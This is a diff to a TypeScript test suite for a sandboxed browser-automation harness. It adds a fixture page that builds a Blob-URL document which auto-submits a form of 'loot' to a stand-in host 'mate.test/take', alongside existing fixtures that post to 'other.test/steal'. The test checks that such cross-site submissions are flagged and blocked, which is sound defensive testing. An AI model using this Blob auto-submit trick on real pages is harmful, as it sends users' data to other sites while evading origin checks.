@@ -39,6 +39,9 @@ const PAGES: Record<string, string> = {
     <form action="http://other.test/steal" method="post"><button ${at(600, 200)}>Away</button></form>
     <form action="http://friend.test/take"><input type="hidden" name="what" value="loot">
     <button ${at(600, 300)}>Friend</button></form>`,
+  '/blob': `<script>const form = '<form action="http://mate.test/take" method="post"><input name="what" value="loot"></form>';
+    const page = form + '<script>document.forms[0].submit()</' + 'script>';
+    location = URL.createObjectURL(new Blob([page], { type: 'text/html' }))</script>`,
   '/next': '<title>Next</title>',
   '/closed': hiddenField('mode: "closed"'),
   '/closed-in-closed': hiddenField('mode: "closed"', 2),
@@ -97,13 +100,13 @@ describe.skipIf(NO_WALLS !== null)(walled('a run of a browser'), () => {
     });
     await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
     const { port } = server.address() as { port: number };
-    const hosts = ['shop.test', 'friend.test', 'other.test'];
+    const hosts = ['shop.test', 'friend.test', 'mate.test', 'other.test'];
     if (!PROGRAMS) return;
     run = await BrowserRun.open({
       programs: PROGRAMS,
       limits: { memoryBytes: 3e9, lifetimeMs: 600_000, bytes: 1e8 },
       request: {
-        ...{ runId: 'run', viewport: VIEW, allowedSites: ['shop.test', 'friend.test'], language: 'zh' },
+        ...{ runId: 'run', viewport: VIEW, allowedSites: ['shop.test', 'friend.test', 'mate.test'], language: 'zh' },
         testHosts: Object.fromEntries(hosts.map((host) => [host, `127.0.0.1:${port}`])),
       },
       tell: hear,
@@ -195,6 +198,13 @@ describe.skipIf(NO_WALLS !== null)(walled('a run of a browser'), () => {
     expect(kinds()).toEqual(['cross_site_form other.test', 'cross_site_form friend.test']);
     expect(hits.filter((hit) => !hit.includes('shop.test'))).toEqual([]);
     await run.act('take_screenshot', {});
+  });
+
+  it('a form of a document that a page made itself is one of its site', async () => {
+    await open('/blob');
+    await expect.poll(() => kinds()).toEqual(['cross_site_form mate.test']);
+    expect(asked[0]?.from).toBe('shop.test');
+    expect(hits).toEqual(['GET shop.test/blob']);
   });
 
   it('a new site opens once it is allowed', async () => {
